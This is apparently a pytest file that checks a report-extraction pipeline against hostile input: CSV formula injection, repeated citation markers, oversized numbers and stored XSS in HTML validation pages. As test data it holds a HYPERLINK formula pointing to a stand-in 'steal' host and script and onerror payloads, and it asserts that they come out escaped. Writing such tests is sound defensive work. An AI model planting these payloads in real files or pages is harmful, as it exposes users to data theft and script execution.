"""Hardening: report text is data, never markup or a formula in anything we write."""
from __future__ import annotations

import pandas as pd
import pyarrow as pa

from extractor.runner import RunOptions, run_batch
from extractor.tables import SCHEMAS

FORMULA = '=HYPERLINK("http://evil.example/steal","Open the report")'


def test_a_formula_in_a_report_is_inert_in_the_csv_and_exact_in_parquet(sample_text, tmp_path):
    """A report titled with a spreadsheet formula: documents.csv holds it escaped (a leading
    quote), Parquet holds it exactly, and validation still passes."""
    report = tmp_path / "reports" / "formula.txt"
    report.parent.mkdir()
    report.write_text(sample_text.replace("**Striving for a Better Life for the People:", f"**{FORMULA}", 1),
                      encoding="utf-8")
    out = tmp_path / "out"
    summary = run_batch([report], RunOptions(output_dir=str(out), model="none", use_cache=False))
    assert summary.ok
    parquet_title = pd.read_parquet(out / "documents.parquet")["title"].iloc[0]
    assert parquet_title.startswith(FORMULA)
    csv_title = pd.read_csv(out / "documents.csv", dtype=str)["title"].iloc[0]
    assert csv_title == "'" + parquet_title
    # no text cell of any CSV starts with a formula character (numbers are never escaped: a
    # longitude is -43.18)
    for table in out.glob("*.csv"):
        frame = pd.read_csv(table, dtype=str, keep_default_na=False)
        text = {f.name for f in SCHEMAS[table.stem] if f.type == pa.string()}
        for column in (c for c in frame.columns if c in text):
            assert not frame[column].str.match(r"^[=+\-@\t\r]").any(), (table.name, column)


# --- the same marker twice in a sentence (issue 19, item 8) ---------------------------------------

def test_a_marker_printed_twice_gives_two_citations_with_their_own_ids(sample_text, tmp_path):
    """``...growth of 6.5%.^①^①``: two citation rows, two ids, and validation finds no duplicate;
    the ids of the citations printed once are the ones they always had."""
    from extractor.pipeline import ExtractionConfig, process_report

    sentence = "real year-on-year growth of 6.5%.^①"
    assert sample_text.count(sentence) == 1
    report = tmp_path / "reports" / "twice.txt"
    report.parent.mkdir()
    report.write_text(sample_text.replace(sentence, sentence + "^①"), encoding="utf-8")
    once = process_report(tmp_path / "reports" / "twice.txt", ExtractionConfig(model="none"))
    ids = [c["citation_id"] for c in once.tables["citations"]]
    assert len(ids) == len(set(ids))
    offsets = [c["char_offset"] for c in once.tables["citations"]]
    doubled = [c for c in once.tables["citations"] if offsets.count(c["char_offset"]) == 2]
    assert len(doubled) == 2 and doubled[0]["marker"] == doubled[1]["marker"] == "①"
    assert doubled[0]["note_id"] == doubled[1]["note_id"] is not None
    summary = run_batch([report], RunOptions(output_dir=str(tmp_path / "out"), model="none", use_cache=False))
    assert summary.ok, summary.validation.get("error_lines")
    # 1,000 markers in one place: 1,000 rows, 1,000 ids
    report.write_text(sample_text.replace(sentence, sentence + "^①" * 999), encoding="utf-8")
    many = process_report(report, ExtractionConfig(model="none"))
    ids = [c["citation_id"] for c in many.tables["citations"]]
    assert len(ids) == len(set(ids)) == len(once.tables["citations"]) + 998


# --- hostile numbers (issue 19, item 5) -------------------------------------------------------------

def test_out_of_range_numbers_are_flagged_claims_never_inf_nor_a_lost_report(sample_text, tmp_path):
    """"111...1%" (400 digits), "1" and 400 zeros, and 0.000...01 in the sample: the report is
    processed and validates; those claims keep their surface with ``value`` null and
    ``value_flag`` "out_of_range"; no table holds an infinite value; the other claims are as
    before."""
    import math
    from decimal import Decimal

    from extractor.numbers import MAX_ABS_VALUE, stored_value

    ones, zeros, tiny = "1" * 400, "1" + "0" * 400, "0." + "0" * 400 + "1"
    text = sample_text.replace("a 24.7% increase over 2021", f"a {ones}% increase over 2021", 1)
    text = text.replace("reached 17,522 yuan,", f"reached {zeros} yuan and {tiny} yuan,", 1)
    assert text.count(ones) == text.count(zeros) == text.count(tiny) == 1
    report = tmp_path / "reports" / "hostile.txt"
    report.parent.mkdir()
    report.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    summary = run_batch([report], RunOptions(output_dir=str(out), model="none", use_cache=False))
    assert summary.ok, (summary.reports, summary.validation.get("error_lines"))
    claims = pd.read_parquet(out / "claims.parquet")
    flagged = claims[claims["value_flag"].notna()]
    assert set(flagged["value_flag"]) == {"out_of_range"}
    assert flagged["value"].isna().all()
    assert {s.split()[0] for s in flagged["surface"]} >= {f"{ones}%", zeros, tiny}
    values = claims["value"].dropna().astype(float)
    assert all(math.isfinite(v) for v in values)
    assert (values.abs() <= float(MAX_ABS_VALUE)).all()
    for table in out.glob("*.csv"):
        assert "inf" not in {c.lower() for c in pd.read_csv(table, dtype=str, keep_default_na=False).stack()}
    # the stored value of a sane number is the number itself
    assert stored_value(Decimal("17522")) == (17522.0, None)
    assert stored_value(Decimal("1.7e12")) == (1.7e12, None)
    assert stored_value(10 ** 400) == (None, "out_of_range")


# --- stored XSS in Data Docs (issue 19, item 2) -----------------------------------------------------

SCRIPT, IMAGE = "<script>alert(1)</script>", "<img src=x onerror=alert(2)>"


def test_report_text_in_data_docs_is_escaped(sample_text, tmp_path):
    """Script and an image with an onerror handler in a note that no marker cites (the notes
    suite names it), in a sentence whose marker resolves to no note (the citations suite names
    the sentence) and in a sentence whose part exceeds its whole (the consistency suite quotes
    it): every validation page holds the text escaped, and no page holds a live tag from it."""
    import html
    import re

    sample_note = "① UNICEF and World Bank reports."
    assert sample_text.count(sample_note) == 1
    text = sample_text.replace(sample_note, f"{sample_note}\n\n② An uncited note {SCRIPT} {IMAGE} on page 5.", 1)
    cut = "Many impoverished regions still record higher poverty rates than five years ago."
    assert text.count(cut) == 1
    text = text.replace(cut, f"{cut} In 2024, 3,000 households {IMAGE} were surveyed, of which 5,000 households "
                             f"{SCRIPT} were rural.^⑨", 1)
    report = tmp_path / "reports" / "hostile.txt"
    report.parent.mkdir()
    report.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    summary = run_batch([report], RunOptions(output_dir=str(out), model="none", use_cache=False))
    warnings = " ".join(summary.validation["warning_lines"])
    for suite in ("notes.expect_notes_to_be_cited", "citations.expect_citation_markers_to_resolve",
                  "consistency_checks.expect_consistency_checks_to_hold"):
        assert suite in warnings, suite  # each hostile text reached a failing expectation
    pages = {p: p.read_text(encoding="utf-8") for p in (out / "validation").rglob("*.html")}
    assert pages
    live = re.compile(r"<script>alert|<img src=x", re.I)
    assert not [p.name for p, h in pages.items() if live.search(h)]
    shown = "".join(h for p, h in pages.items() if p.name != "report.html")
    for payload in (SCRIPT, IMAGE):
        assert html.escape(payload, quote=True) in shown  # the text is there, as text
    assert "&amp;lt;" not in shown  # escaped once, not twice
